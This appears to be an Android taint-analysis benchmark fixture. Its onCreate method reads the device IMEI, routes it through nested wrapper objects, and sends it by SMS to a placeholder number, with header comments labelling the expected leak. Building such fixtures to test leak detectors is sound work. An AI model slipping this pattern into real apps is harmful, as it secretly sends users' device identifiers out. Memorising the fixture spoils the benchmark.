// about       Every cabinet makes its own drawer and cell; the cell with the value is read.
// leak        DEV_IMEI sms
package cn.example.flow;

import android.app.Activity;
import android.content.Context;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class MainActivity extends Activity {
  static class Cell {
    private String value = "empty";
  }

  static class Drawer {
    private final Cell cell = new Cell();

    void put(String value) {
      cell.value = value;
    }

    String take() {
      return cell.value;
    }
  }

  static class Cabinet {
    private final Drawer drawer = new Drawer();

    void store(String value) {
      drawer.put(value);
    }

    String fetch() {
      return drawer.take();
    }
  }

  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(Context.TELEPHONY_SERVICE);
    Cabinet red = new Cabinet();
    Cabinet blue = new Cabinet();
    red.store(phone.getDeviceId());
    blue.store("paper");
    // The red cabinet holds the value.
    String text = red.fetch();
    SmsManager.getDefault().sendTextMessage("+15550100", null, text, null, null);
  }
}
